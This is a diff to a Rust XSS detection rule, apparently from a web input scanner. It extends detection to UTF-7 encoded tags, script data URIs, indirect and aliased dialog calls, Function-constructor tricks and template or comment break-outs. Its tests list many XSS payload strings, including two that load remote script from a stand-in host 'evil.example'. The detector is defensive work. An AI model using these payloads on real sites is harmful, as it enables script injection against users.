@@ -68,25 +68,25 @@ pub(crate) fn needs() -> Needs {
 /// `<` with the high bit set (`¼`, U+00BC).
 const HIGH_LT: &str = "\u{bc}";
 
-/// `<` in UTF-7 (`+ADw-`), which old browsers and charset-sniffing parsers still decode.
-const UTF7_LT: &str = "+adw-";
+/// `<` in UTF-7 (`+ADw-`, or `+ADw` opening a longer run), which old browsers and
+/// charset-sniffing parsers still decode.
+const UTF7_LT: &str = "+adw";
 
 /// Finds XSS in one value.
 pub(crate) fn detect(s: &Subject<'_>, _t: &Tables) -> Option<Hit> {
     let b = s.bytes();
     if s.has(class::OPS) {
         for p in find_iter(b, UTF7_LT.as_bytes()) {
-            // A tag name, then what ends one: a space, `/`, `>` or its UTF-7 form `+AD4-`.
-            let name = p + 5 + usize::from(b.get(p + 5) == Some(&b'/'));
+            // A tag name, then what ends one: a space, `/` or `>`.
+            let d = utf7(&s.text.as_bytes()[p..b.len().min(p + 512)]);
+            let name = 1 + usize::from(d.get(1) == Some(&b'/'));
             let end = name
-                + b[name..]
+                + d[name..]
                     .iter()
                     .take_while(|c| c.is_ascii_alphabetic())
                     .count();
-            let tag_end =
-                matches!(b.get(end), Some(b' ' | b'/' | b'>')) || b[end..].starts_with(b"+ad4-");
-            if end > name && tag_end {
-                return Some(Hit::new("xss.dangerous_tag", p, end));
+            if end > name && matches!(d.get(end), Some(b' ' | b'/' | b'>')) {
+                return Some(Hit::new("xss.dangerous_tag", p, (p + 5).min(b.len())));
             }
         }
     }
@@ -146,6 +146,51 @@ pub(crate) fn detect(s: &Subject<'_>, _t: &Tables) -> Option<Hit> {
         return script_context(b, s.paranoia, s.gate(gate::DOM));
     }
     None
+}
+
+/// UTF-7 decoded (RFC 2152: `+`, modified base64 of UTF-16 units, an optional `-`),
+/// lower-cased; what is not ASCII becomes `?`.
+fn utf7(t: &[u8]) -> Vec<u8> {
+    let mut out = Vec::with_capacity(t.len());
+    let mut i = 0;
+    while i < t.len() {
+        if t[i] != b'+' {
+            out.push(t[i].to_ascii_lowercase());
+            i += 1;
+            continue;
+        }
+        i += 1;
+        let (mut bits, mut n) = (0u32, 0u32);
+        let start = i;
+        while let Some(v) = t.get(i).and_then(|c| base64_value(*c)) {
+            bits = ((bits << 6) | v) & 0x3f_ffff;
+            n += 6;
+            if n >= 16 {
+                n -= 16;
+                let unit = (bits >> n) & 0xffff;
+                out.push(u8::try_from(unit).ok().filter(u8::is_ascii).unwrap_or(b'?'));
+            }
+            i += 1;
+        }
+        if t.get(i) == Some(&b'-') {
+            if i == start {
+                out.push(b'+');
+            }
+            i += 1;
+        }
+    }
+    out
+}
+
+fn base64_value(c: u8) -> Option<u32> {
+    Some(u32::from(match c {
+        b'A'..=b'Z' => c - b'A',
+        b'a'..=b'z' => c - b'a' + 26,
+        b'0'..=b'9' => c - b'0' + 52,
+        b'+' => 62,
+        b'/' => 63,
+        _ => return None,
+    }))
 }
 
 fn tags(b: &[u8]) -> Option<Hit> {
@@ -473,9 +518,16 @@ fn script_uri(b: &[u8]) -> Option<Hit> {
 
 fn data_uri_at(b: &[u8], colon: usize) -> bool {
     let rest = &b[colon + 1..b.len().min(colon + 40)];
-    rest.starts_with(b"text/html")
-        || rest.starts_with(b"image/svg")
-        || rest.starts_with(b"application/x")
+    [
+        "text/html",
+        "image/svg",
+        "application/x",
+        "text/javascript",
+        "application/javascript",
+    ]
+    .iter()
+    .chain(&["text/ecmascript", "application/ecmascript", "text/xml"])
+    .any(|t| rest.starts_with(t.as_bytes()))
 }
 
 /// `onerror=` outside a tag: an attribute break-out (`" onmouseover="alert(1)`).
@@ -506,12 +558,22 @@ fn loose_handler(b: &[u8]) -> Option<Hit> {
         let quote_before = first_quote.is_some_and(|q| q < j);
         let after = &b[eq + 1..b.len().min(eq + 120)];
         let code = after.iter().any(|c| matches!(c, b'(' | b'`' | b'&' | b'{'))
-            || find(after, b"alert").is_some();
-        if quote_before || code {
+            || DIALOGS.iter().any(|d| find(after, d).is_some());
+        if (quote_before || code) && !names_a_function(after) {
             return Some(Hit::new("xss.event_handler", j, (eq + 12).min(b.len())));
         }
     }
     None
+}
+
+/// Whether a handler's value only names a function (`{handleClick}`, JSX written in prose),
+/// which runs nothing.
+fn names_a_function(v: &[u8]) -> bool {
+    let v = &v[skip_space(v, 0)..];
+    v.strip_prefix(b"{").is_some_and(|r| {
+        let n = r.iter().take_while(|c| is_word(**c) || **c == b'.').count();
+        n > 0 && r.get(n) == Some(&b'}') && !DIALOGS.iter().any(|d| r[..n].ends_with(d))
+    })
 }
 
 const SINK_OBJECTS: &[(&[u8], &[&[u8]])] = &[
@@ -543,6 +605,41 @@ const SINK_OBJECTS: &[(&[u8], &[&[u8]])] = &[
     (b"location", &[b"href", b"hash", b"replace", b"assign"]),
 ];
 
+/// Names of the global object, through which every global function is reachable.
+const GLOBALS: &[&[u8]] = &[
+    b"window",
+    b"self",
+    b"top",
+    b"parent",
+    b"globalthis",
+    b"frames",
+];
+
+/// Functions that show a dialog or run a string: an injection's proof or its payload.
+const DIALOGS: &[&[u8]] = &[
+    b"alert",
+    b"prompt",
+    b"confirm",
+    b"eval",
+    b"settimeout",
+    b"setinterval",
+];
+
+/// Keywords that take an expression (`void alert(1)`), so one may sit between a break-out
+/// and its call.
+const OPERATOR_WORDS: &[&[u8]] = &[
+    b"void",
+    b"typeof",
+    b"delete",
+    b"new",
+    b"in",
+    b"instanceof",
+    b"throw",
+    b"return",
+    b"await",
+    b"yield",
+];
+
 const CALLS: &[&[u8]] = &[
     b"alert",
     b"prompt",
@@ -563,9 +660,13 @@ fn script_context(b: &[u8], paranoia: u8, dom: bool) -> Option<Hit> {
     for dot in memchr::memchr_iter(b'.', b) {
         let (ws, we) = word_before(b, dot);
         let obj = &b[ws..we];
-        let Some((_, props)) = SINK_OBJECTS.iter().find(|(o, _)| *o == obj) else {
+        let props = SINK_OBJECTS
+            .iter()
+            .find(|(o, _)| *o == obj)
+            .map_or(&[][..], |(_, p)| p);
+        if props.is_empty() && !GLOBALS.contains(&obj) {
             continue;
-        };
+        }
         if ws > 0 && is_word(b[ws - 1]) {
             continue;
         }
@@ -581,11 +682,19 @@ fn script_context(b: &[u8], paranoia: u8, dom: bool) -> Option<Hit> {
         if props.contains(&&b[ps..pe]) && !empty_call {
             return Some(Hit::new("xss.dom_sink", ws, pe));
         }
+        // A dialog or timer called through a global (`top.alert(1)`, `self.confirm\`1\``).
+        let called = matches!(b.get(open), Some(b'(' | b'`')) && !empty_call;
+        if called && GLOBALS.contains(&obj) && DIALOGS.contains(&&b[ps..pe]) {
+            return Some(Hit::new("xss.js_breakout", ws, pe));
+        }
     }
     if let Some(h) = bracket_sink(b) {
         return Some(h);
     }
-    if let Some(h) = jsfuck(b).or_else(|| tagged_call(b)) {
+    if let Some(h) = jsfuck(b)
+        .or_else(|| tagged_call(b))
+        .or_else(|| indirect_call(b))
+    {
         return Some(h);
     }
     if dom {
@@ -601,37 +710,57 @@ fn script_context(b: &[u8], paranoia: u8, dom: bool) -> Option<Hit> {
         if c != b'(' && c != b'`' {
             continue;
         }
-        let (ws, we) = word_before(b, i);
-        if we != i || !CALLS.contains(&&b[ws..we]) {
+        // The callee: a name, then perhaps comments, spaces or an optional chain's `?.`.
+        let callee_end = if b[..i].ends_with(b"?.") { i - 2 } else { i };
+        let (ws, we) = word_before(b, callee_end);
+        if skip_js_space(b, we) != callee_end || !CALLS.contains(&&b[ws..we]) {
             continue;
         }
+        let dialog = DIALOGS.contains(&&b[ws..we]);
         let mut k = ws;
         while k > 0 && (b[k - 1].is_ascii_whitespace()) {
             k -= 1;
         }
-        let breakout = k > 0
-            && matches!(
-                b[k - 1],
-                b';' | b'+'
-                    | b'-'
-                    | b'|'
-                    | b'&'
-                    | b'}'
-                    | b'('
-                    | b'*'
-                    | b','
-                    | b'{'
-                    | b'>'
-                    | b'='
-                    | b'?'
-                    | b':'
-            )
-            && first_break.is_some_and(|f| f < k);
-        let dialog = matches!(
-            &b[ws..we],
-            b"alert" | b"prompt" | b"confirm" | b"settimeout" | b"setinterval" | b"eval"
-        );
-        let bare = k == 0 && (paranoia >= 2 || (dialog && whole_call(b, i)));
+        // An operator keyword before a dialog (`'-typeof alert(1)-'`, `';void prompt(1)//`).
+        let (ks, ke) = word_before(b, k);
+        let keyword = dialog && ke == k && ks < ke && OPERATOR_WORDS.contains(&&b[ks..ke]);
+        if keyword {
+            k = ks;
+            while k > 0 && (b[k - 1].is_ascii_whitespace()) {
+                k -= 1;
+            }
+        }
+        // A template's `${`, or a comment closed (`*/alert(1)`), starts code wherever it is.
+        let opened = (k >= 2 && matches!(&b[k - 2..k], b"${" | b"*/"))
+            || (keyword && ks > 0 && matches!(b[ks - 1], b'"' | b'\'' | b'`'));
+        let breakout = opened
+            || (k > 0
+                && matches!(
+                    b[k - 1],
+                    b';' | b'+'
+                        | b'-'
+                        | b'|'
+                        | b'&'
+                        | b'}'
+                        | b'('
+                        | b'*'
+                        | b','
+                        | b'{'
+                        | b'>'
+                        | b'='
+                        | b'?'
+                        | b':'
+                        | b')'
+                        | b'^'
+                        | b'%'
+                        | b'/'
+                        | b'~'
+                        | b'!'
+                        | b'<'
+                )
+                && first_break.is_some_and(|f| f < k));
+        // A whole value that is a call (`alert(1)`), not a word before a remark (`Prompt (…)`).
+        let bare = k == 0 && we == callee_end && (paranoia >= 2 || (dialog && whole_call(b, i)));
         if breakout || bare {
             return Some(Hit::new(
                 "xss.js_breakout",
@@ -677,6 +806,224 @@ fn whole_call(b: &[u8], open: usize) -> bool {
 fn jsfuck(b: &[u8]) -> Option<Hit> {
     let atoms = find_iter(b, b"![]").count() + find_iter(b, b"+[]").count();
     (atoms >= 3).then(|| Hit::new("xss.js_breakout", 0, b.len().min(24)))
+}
+
+/// A dialog or eval reached without writing its call (`(0,alert)(1)`, `[1].map(alert)`,
+/// `alert.call(null,1)`, `a=alert;a(1)`), a function built from a string and run at once
+/// (`Function('…')()`, `[].constructor.constructor\`…\`\`\``), a script loaded by URL
+/// (`import('//…')`, `$.getScript(…)`), or a global's member computed and called
+/// (`window[atob('…')](1)`).
+fn indirect_call(b: &[u8]) -> Option<Hit> {
+    for open in memchr::memchr_iter(b'(', b).chain(memchr::memchr_iter(b'`', b)) {
+        let (ws, we) = word_before(b, open);
+        let name = &b[ws..we];
+        if ws == we
+            && computed_member_is(b, open, b"constructor")
+            && called_at(b, group_end(b, open).map_or(b.len(), |e| e + 1))
+        {
+            return Some(Hit::new(
+                "xss.js_breakout",
+                open.saturating_sub(14),
+                open + 1,
+            ));
+        }
+        let built = match name {
+            b"function" => ws == 0 || !is_word(b[ws - 1]),
+            b"constructor" => true,
+            _ => false,
+        };
+        if built && called_at(b, group_end(b, open).map_or(b.len(), |e| e + 1)) {
+            return Some(Hit::new("xss.js_breakout", ws, open + 1));
+        }
+        if b[open] != b'(' {
+            continue;
+        }
+        let q = skip_js_space(b, open + 1);
+        let by_url = |q: usize| {
+            matches!(b.get(q), Some(b'"' | b'\'' | b'`'))
+                && [&b"//"[..], b"http:", b"https:", b"data:"]
+                    .iter()
+                    .any(|p| b[q + 1..].starts_with(p))
+        };
+        let jquery_load = matches!(name, b"getscript" | b"globaleval")
+            && ws > 0
+            && b[ws - 1] == b'.'
+            && (b[..ws - 1].ends_with(b"$") || b[..ws - 1].ends_with(b"jquery"));
+        if (name == b"import" && by_url(q)) || jquery_load {
+            return Some(Hit::new("xss.js_breakout", ws, open + 1));
+        }
+    }
+    for (ws, we) in dialog_words(b) {
+        let before = skip_back_js_space(b, ws.saturating_sub(1));
+        let prev = if ws == 0 { 0 } else { b[before] };
+        let after = skip_js_space(b, we);
+        let next = b.get(after).copied().unwrap_or(0);
+        // `(alert)(1)`, `(0,eval)(x)`: the name alone in parentheses, then called.
+        let parenthesized = matches!(prev, b'(' | b',')
+            && next == b')'
+            && matches!(b.get(after + 1), Some(b'(' | b'`'))
+            && called_at(b, after + 1);
+        // `[1].find(alert)`, `Reflect.apply(alert,…)`: a method's argument.
+        let callback = matches!(prev, b'(' | b',')
+            && matches!(next, b')' | b',')
+            && method_call_open(b, before);
+        // `alert.call(…)`, `eval.apply(…)`, `prompt.bind(…)()`.
+        let via = next == b'.' && {
+            let m = skip_js_space(b, after + 1);
+            let e = m + b[m..]
+                .iter()
+                .take_while(|c| c.is_ascii_alphabetic())
+                .count();
+            matches!(&b[m..e], b"call" | b"apply" | b"bind") && called_at(b, e)
+        };
+        if parenthesized || callback || via || aliased(b, ws, we) {
+            return Some(Hit::new("xss.js_breakout", ws, we));
+        }
+    }
+    global_computed_call(b)
+}
+
+/// Whether what ends just before `i` is the computed member `['name']` (any quote).
+fn computed_member_is(b: &[u8], i: usize, name: &[u8]) -> bool {
+    let k = skip_back_js_space(b, i.saturating_sub(1));
+    if i == 0 || b[k] != b']' || k == 0 {
+        return false;
+    }
+    let q = skip_back_js_space(b, k - 1);
+    let Some(open) = q.checked_sub(name.len() + 1) else {
+        return false;
+    };
+    matches!(b[q], b'"' | b'\'' | b'`')
+        && b[open] == b[q]
+        && &b[open + 1..q] == name
+        && open > 0
+        && b[skip_back_js_space(b, open - 1)] == b'['
+}
+
+/// Every dialog name of `b` written as a whole identifier.
+fn dialog_words(b: &[u8]) -> impl Iterator<Item = (usize, usize)> + '_ {
+    DIALOGS.iter().flat_map(move |d| {
+        find_iter(b, d).filter_map(move |s| {
+            let e = s + d.len();
+            let whole = (s == 0 || !(is_word(b[s - 1]) || b[s - 1] == b'$'))
+                && b.get(e).is_none_or(|c| !(is_word(*c) || *c == b'$'));
+            whole.then_some((s, e))
+        })
+    })
+}
+
+/// Whether a call opens at `i` (after spaces): `(…)` with something in it or a template.
+fn called_at(b: &[u8], i: usize) -> bool {
+    let i = skip_js_space(b, i);
+    match b.get(i) {
+        Some(b'`') => true,
+        Some(b'(') => group_end(b, i).is_some(),
+        _ => false,
+    }
+}
+
+/// Whether the `(` at `open` opens a method call's arguments (`.map(`, `.apply(`).
+fn method_call_open(b: &[u8], open: usize) -> bool {
+    if b.get(open) != Some(&b'(') {
+        // A later argument: find the call's `(` on the same level.
+        let mut depth = 0usize;
+        let Some(p) = b[..open].iter().rposition(|c| {
+            match c {
+                b')' | b']' => depth += 1,
+                b'(' | b'[' if depth > 0 => depth -= 1,
+                b'(' => return true,
+                _ => {}
+            }
+            false
+        }) else {
+            return false;
+        };
+        return method_call_open(b, p);
+    }
+    let (ws, we) = word_before(b, open);
+    we == open && ws < we && ws > 0 && b[ws - 1] == b'.'
+}
+
+/// `x=alert,x(1)` or `a=alert;a\`1\``: a dialog given a new name that is then called.
+fn aliased(b: &[u8], ws: usize, we: usize) -> bool {
+    let eq = skip_back_js_space(b, ws.saturating_sub(1));
+    if ws == 0 || b[eq] != b'=' || eq == 0 {
+        return false;
+    }
+    let (ns, ne) = word_before(b, eq);
+    let sep = skip_js_space(b, we);
+    if ns == ne || !matches!(b.get(sep), Some(b',' | b';')) {
+        return false;
+    }
+    let alias = &b[ns..ne];
+    find_iter(&b[sep..], alias).any(|p| {
+        let s = sep + p;
+        let e = s + alias.len();
+        !is_word(b[s - 1]) && b.get(e).is_some_and(|c| matches!(c, b'(' | b'`')) && called_at(b, e)
+    })
+}
+
+/// A global's member computed by an expression and called: `window[atob('YWxlcnQ=')](1)`,
+/// `self[Object.keys(self)[5]](1)`, `top[/al/.source+/ert/.source]\`1\``.
+fn global_computed_call(b: &[u8]) -> Option<Hit> {
+    for open in memchr::memchr_iter(b'[', b) {
+        let (ws, we) = word_before(b, open);
+        if !GLOBALS.contains(&&b[ws..we]) || (ws > 0 && is_word(b[ws - 1])) {
+            continue;
+        }
+        let Some(close) = group_end(b, open) else {
+            continue;
+        };
+        let inner = &b[open + 1..close];
+        // A name made by a call or from a regular expression's source, not a variable.
+        let computed = inner.iter().any(|c| matches!(c, b'(' | b'/'));
+        if computed && called_at(b, close + 1) {
+            return Some(Hit::new("xss.dom_sink", ws, close + 1));
+        }
+    }
+    None
+}
+
+/// The index of what closes the group opened at `open` (`(`, `[` or a template's backtick,
+/// whose `${…}` may hold templates of their own), looked for within 512 bytes.
+fn group_end(b: &[u8], open: usize) -> Option<usize> {
+    let end = b.len().min(open + 512);
+    if b[open] == b'`' {
+        let mut i = open + 1;
+        let mut braces = 0usize;
+        while i < end {
+            match b[i] {
+                b'\\' => i += 1,
+                b'`' if braces == 0 => return Some(i),
+                b'`' => i = memchr::memchr(b'`', &b[i + 1..end]).map(|e| i + 1 + e)?,
+                b'$' if b.get(i + 1) == Some(&b'{') => {
+                    braces += 1;
+                    i += 1;
+                }
+                b'}' if braces > 0 => braces -= 1,
+                _ => {}
+            }
+            i += 1;
+        }
+        return None;
+    }
+    let (o, c) = if b[open] == b'[' {
+        (b'[', b']')
+    } else {
+        (b'(', b')')
+    };
+    let mut depth = 0usize;
+    b[open..end]
+        .iter()
+        .position(|&x| {
+            if x == o {
+                depth += 1;
+            } else if x == c {
+                depth -= 1;
+            }
+            depth == 0
+        })
+        .map(|e| open + e)
 }
 
 /// A tagged template calling through `Function.prototype` (`[].sort.call\`${alert}1\``).
@@ -736,10 +1083,8 @@ fn bracket_sink(b: &[u8]) -> Option<Hit> {
         let sink = SINK_OBJECTS
             .iter()
             .any(|(o, props)| *o == obj && props.contains(&prop));
-        let global = matches!(
-            obj,
-            b"window" | b"self" | b"top" | b"parent" | b"globalthis" | b"frames"
-        ) && (CALLS.contains(&prop) || prop == b"document");
+        let global = (GLOBALS.contains(&obj) && (CALLS.contains(&prop) || prop == b"document"))
+            || (obj == b"this" && DIALOGS.contains(&prop));
         if sink || global {
             return Some(Hit::new("xss.dom_sink", ws, pe + 1));
         }
@@ -882,6 +1227,37 @@ mod tests {
             "top['x'](1)",
             "top[\"al\"+\"ert\"](1)",
             "window['ev' + 'a' + `l`](atob(x))",
+            // Dialogs reached without a plain call, functions built from strings and run.
+            "top.alert(1)",
+            "';self.confirm`1`//",
+            "(alert)(1)",
+            "(0,eval)('x')",
+            "[1].map(alert)",
+            "Reflect.apply(prompt,null,[1])",
+            "alert.call(null,1)",
+            "x=alert,x(1)",
+            "Function('alert(1)')()",
+            "[].constructor.constructor('alert(1)')()",
+            "{{$on.constructor('alert(1)')()}}",
+            "Set.constructor`alert\\x281\\x29```",
+            "''['constructor']['constructor']('x')()",
+            "import('//evil.example/x.js')",
+            "$.getScript('//evil.example/x.js')",
+            "window[atob('YWxlcnQ=')](1)",
+            "self[Object.keys(self)[5]](1)",
+            "this['alert'](1)",
+            // Break-outs through templates, comments, operators and keywords.
+            "${alert(1)}",
+            "*/alert(1)/*",
+            "'^alert(1)^'",
+            "'-typeof alert(1)-'",
+            "'in alert(1) in'",
+            "';alert/**/(1)//",
+            "alert?.(1)",
+            "onerror=prompt",
+            // UTF-7 runs and script data URIs.
+            "+ADwAcwBjAHIAaQBwAHQAPg-alert(1)",
+            "data:text/javascript;base64,YWxlcnQoMSk=",
         ] {
             assert!(rule(a).is_some(), "missed {a}");
         }
@@ -919,6 +1295,20 @@ mod tests {
             "top[\"score\"] = 5",
             "top[\"a\" + \"b\"] = 5",
             "top[\"a\" + x](1)",
+            // Code and prose near the new shapes.
+            "The alert, critical and error levels (alert) (crit) are mapped.",
+            "levels(alert,crit,err)",
+            "severity=alert, facility=local0",
+            "Use new Function('a', 'return a') to build one.",
+            "Use setTimeout(() => done(), 100) in the handler",
+            "items.map(item => item.id)",
+            "window[0] is the first frame",
+            "window[key] = value",
+            "content[\"document\"] = doc",
+            "this[\"value\"] = 3",
+            "import('./local-module.js')",
+            "In React use `onClick={handleClick}` for events.",
+            "In React 'x' in alert(s) mode",
         ] {
             assert_eq!(rule(b), None, "false positive on {b}");
         }
